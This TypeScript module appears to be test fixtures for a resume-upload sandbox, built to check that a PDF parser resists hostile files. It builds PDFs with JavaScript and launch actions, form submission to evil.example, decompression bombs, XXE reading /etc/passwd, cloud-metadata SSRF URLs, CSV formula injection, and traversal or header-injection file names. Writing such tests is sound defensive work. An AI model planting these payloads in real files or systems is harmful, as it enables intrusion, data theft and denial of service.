/** Files made to do harm: PDFs that act, swell, loop or lie, pictures and lists that are none, and their names. */
import { deflateSync } from "node:zlib";
import { samplePdf } from "../../workers/sandbox/demo/sample-pdf";

export interface HostileFile {
  what: string;
  name: string;
  type: string;
  bytes: Uint8Array<ArrayBuffer>;
}

const WORDS = "Sample Seeker\nBackend Developer, Pune\nNode.js, PostgreSQL, TypeScript";
const bytesOf = (text: string) => new Uint8Array(Buffer.from(text, "latin1"));
const filled = (size: number, value: number) => new Uint8Array(size).fill(value);

/** A PDF of these objects, numbered from 1; a stream's bytes stand as one Latin-1 character each. */
function pdf(objects: readonly string[], trailer = ""): Uint8Array<ArrayBuffer> {
  let file = "%PDF-1.7\n%\u00E2\u00E3\u00CF\u00D3\n";
  const offsets = objects.map((body, i) => {
    const at = file.length;
    file += `${i + 1} 0 obj\n${body}\nendobj\n`;
    return at;
  });
  const xref = file.length;
  file += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  file += offsets.map((at) => `${String(at).padStart(10, "0")} 00000 n \n`).join("");
  file += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer}>>\nstartxref\n${xref}\n%%EOF\n`;
  return bytesOf(file);
}

const stream = (content: string, dictionary = "") =>
  `<< /Length ${content.length} ${dictionary}>>\nstream\n${content}\nendstream`;
const flate = (bytes: Uint8Array, times = 1) => {
  let packed = bytes;
  for (let i = 0; i < times; i++) packed = deflateSync(packed, { level: 9 });
  const filter = `[${"/FlateDecode ".repeat(times)}]`;
  return stream(Buffer.from(packed).toString("latin1"), `/Filter ${filter} `);
};
const text = (words = WORDS) =>
  `BT /F1 11 Tf 16 TL 56 780 Td ${words
    .split("\n")
    .map((line) => `(${line}) Tj T*`)
    .join("\n")} ET`;
const FONT = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>";

/** A whole page of words, with something in its catalog, its page, and further objects from number 6. */
const withPage = (catalog: string, page = "", more: readonly string[] = [], content = stream(text())) =>
  pdf([
    `<< /Type /Catalog /Pages 2 0 R ${catalog}>>`,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R " +
      `${page}>>`,
    content,
    FONT,
    ...more,
  ]);

const SCRIPT = "/S /JavaScript /JS (app.alert\\(7\\))";

/** PDFs whose words can be read, and of which nothing else may reach anybody. */
function acting(): [string, Uint8Array<ArrayBuffer>][] {
  return [
    ["JavaScript when it opens", withPage(`/OpenAction << ${SCRIPT} >> `)],
    ["JavaScript by name", withPage("/Names << /JavaScript << /Names [(a) 6 0 R] >> >> ", "", [`<< ${SCRIPT} >>`])],
    ["JavaScript of the page", withPage("", `/AA << /O << ${SCRIPT} >> >> `)],
    ["JavaScript in a stream", withPage("/OpenAction << /S /JavaScript /JS 6 0 R >> ", "", [stream("app.alert(7)")])],
    ["names written in hex", withPage("/OpenAction << /S /Java#53cript /#4aS (app.alert\\(7\\)) >> ")],
    ["a program to launch", withPage("/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) >> >> ")],
    [
      "a file embedded",
      withPage(
        "/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >> ",
        "/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 6 0 R >>] ",
        ["<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>", stream("MZ....", "/Type /EmbeddedFile ")],
      ),
    ],
    [
      "links that run",
      withPage(
        "",
        `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 600 850] /A << ${SCRIPT} >> >> << /Type /Annot /Subtype ` +
          "/Link /Rect [0 0 600 850] /A << /S /URI /URI (javascript:alert\\(7\\)) >> >>] ",
      ),
    ],
    [
      "a form that is sent",
      withPage(
        "/AcroForm << /Fields [] /XFA 6 0 R >> /OpenAction << /S /SubmitForm /F (https://evil.example) >> ",
        "",
        [stream("<xdp:xdp/>")],
      ),
    ],
    ["another file opened", withPage("/OpenAction << /S /GoToR /F (//evil.example/share/a.pdf) /D [0 /Fit] >> ")],
    ["a film", withPage("", "/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>] ")],
    ["words that are markup", withPage("", "", [], stream(text("<script>alert\\(7\\)</script>\n=HYPERLINK\\(1\\)")))],
  ];
}

/** PDFs that nobody can read, or that nobody should try to the end. */
function broken(): [string, Uint8Array<ArrayBuffer>][] {
  const whole = samplePdf(WORDS.split("\n"));
  const kids = Array.from({ length: 20_000 }, (_, i) => `${i + 6} 0 R`).join(" ");
  const many = pdf([
    "<< /Type /Catalog /Pages 2 0 R >>",
    `<< /Type /Pages /Kids [${kids}] /Count 20000 >>`,
    "null",
    stream(text()),
    FONT,
    ...Array.from({ length: 20_000 }, () => "<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>"),
  ]);
  return [
    ["half of a file", whole.slice(0, whole.length / 2)],
    ["its first bytes", whole.slice(0, 9)],
    ["no end", whole.slice(0, -30)],
    [
      "encrypted",
      pdf(
        ["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>"],
        "/Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O (00000000000000000000000000000000) /U " +
          "(00000000000000000000000000000000) >> /ID [(a) (a)] ",
      ),
    ],
    ["200 MB in a page", withPage("", "", [], flate(filled(200 * 1024 * 1024, 0x20)))],
    ["packed three times", withPage("", "", [], flate(filled(60 * 1024 * 1024, 0x20), 3))],
    ["20,000 pages", many],
    ["no page", pdf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>"])],
    ["pages in a ring", pdf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R] /Count 1 >>"])],
    ["a page that is its parent", pdf(["<< /Type /Catalog /Pages 1 0 R /Kids [1 0 R] /Count 9 >>"])],
    [
      "tables in a ring",
      bytesOf(`${Buffer.from(whole).toString("latin1").replace("/Root 1 0 R", "/Root 1 0 R /Prev 9")}`),
    ],
    ["brackets without end", pdf([`<< /Type /Catalog /Pages 2 0 R /X ${"[".repeat(500_000)} >>`])],
    ["dictionaries without end", pdf([`${"<< /A ".repeat(200_000)}`])],
    [
      "a length of gigabytes",
      pdf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Length 9999999999 >>\nstream\nx\nendstream"]),
    ],
    ["a negative length", withPage("", "", [], `<< /Length -1 >>\nstream\n${text()}\nendstream`)],
    ["100,000 objects", pdf(["<< /Type /Catalog /Pages 2 0 R >>", ...Array.from({ length: 100_000 }, () => "null")])],
    [
      "a form inside itself",
      withPage(
        "",
        "/X 1 ",
        [stream("/A Do", "/Type /XObject /Subtype /Form /Resources << /XObject << /A 6 0 R >> >> ")],
        stream("/A Do"),
      ),
    ],
    ["a million words", withPage("", "", [], flate(Buffer.from(text("word ".repeat(1_000_000)))))],
    ["a million marks", withPage("", "", [], flate(Buffer.from(`BT /F1 1 Tf ${"(a) Tj ".repeat(1_000_000)} ET`)))],
    ["a page of HTML", bytesOf(`%PDF-1.4\n<html><script>alert(7)</script></html>`)],
    [
      "a head and noise",
      bytesOf(`%PDF-1.7\n${Array.from({ length: 300_000 }, (_, i) => String.fromCharCode((i * 7919) % 256)).join("")}`),
    ],
    [
      "10 MB of a head",
      new Uint8Array(
        [...bytesOf("%PDF-1.4\n"), ...filled(0, 0)].concat(Array.from({ length: 9 * 1024 * 1024 }, () => 37)),
      ),
    ],
  ];
}

/** A file that is no PDF, whatever it is called. */
function otherFiles(): [string, Uint8Array<ArrayBuffer>][] {
  return [
    ["nothing", new Uint8Array()],
    ["a program", bytesOf(`MZ${"\u0000".repeat(60)}This program cannot be run in DOS mode`)],
    ["a page", bytesOf("<!DOCTYPE html><script>alert(7)</script>")],
    ["a drawing that runs", bytesOf('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(7)"/>')],
    ["an archive", bytesOf("PK\u0003\u0004" + "\u0000".repeat(100))],
    [
      "entities of XML",
      bytesOf('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
    ],
    [
      "a picture of 60,000 by 60,000",
      bytesOf(
        "\u0089PNG\r\n\u001A\n\u0000\u0000\u0000\rIHDR" +
          "\u0000\u0000\u00EA\u0060\u0000\u0000\u00EA\u0060\b\u0006\u0000\u0000\u0000",
      ),
    ],
    ["a picture and a page", bytesOf("\u00FF\u00D8\u00FF\u00E0<script>alert(7)</script>")],
    [
      "a formula in a list",
      bytesOf(
        'name,url\n"=HYPERLINK(""https://evil.example"")",https://jobs.lever.co/x\n@SUM(1),javascript:alert(7)\n',
      ),
    ],
    ["a list of one long line", bytesOf(`name,url\n${"a".repeat(900_000)},https://jobs.lever.co/long\n`)],
    ["a list with quotes open", bytesOf(`name,url\n"${"a,".repeat(50_000)}\n`)],
    ["a list of 50,000 rows", bytesOf(`name,url\n${"<script>alert(7)</script>,//evil.example\n".repeat(50_000)}`)],
    [
      "a list of inner addresses",
      bytesOf("name,url\na,http://169.254.169.254/latest\nb,http://localhost:8787/admin\nc,file:///etc/passwd\n"),
    ],
    ["no character of UTF-8", new Uint8Array([0xff, 0xfe, 0x00, 0xd8, 0xc0, 0x80, 0xf5, 0x80])],
    ["11 MB", filled(11 * 1024 * 1024, 0x41)],
  ];
}

const NAMES = [
  "../../../../etc/passwd",
  "..\\..\\windows\\a.pdf",
  "<img src=x onerror=alert(7)>.pdf",
  '"><script>alert(7)</script>.pdf',
  "a\r\nSet-Cookie: stolen=1.pdf",
  "\u202Efdp.exe",
  "a\u0000.pdf",
  `${"x".repeat(3_000)}.pdf`,
  "resume.pdf.exe",
  "",
  ".",
  "=1+1.pdf",
  "CON.pdf",
  "\uFEFF\u200B.pdf",
];

/** Every file, once with the name and the type that lies best, and a good one under every name. */
export function hostileFiles(): HostileFile[] {
  const named = (what: string, bytes: Uint8Array<ArrayBuffer>): HostileFile => ({
    what,
    name: "resume.pdf",
    type: "application/pdf",
    bytes,
  });
  return [
    ...[...acting(), ...broken(), ...otherFiles()].map(([what, bytes]) => named(what, bytes)),
    ...NAMES.map((name) => ({
      ...named(`called ${JSON.stringify(name).slice(0, 40)}`, samplePdf(WORDS.split("\n"))),
      name,
    })),
    { ...named("of type HTML", samplePdf(["a"])), type: "text/html" },
    { ...named("of no type", samplePdf(["a"])), type: "" },
  ];
}
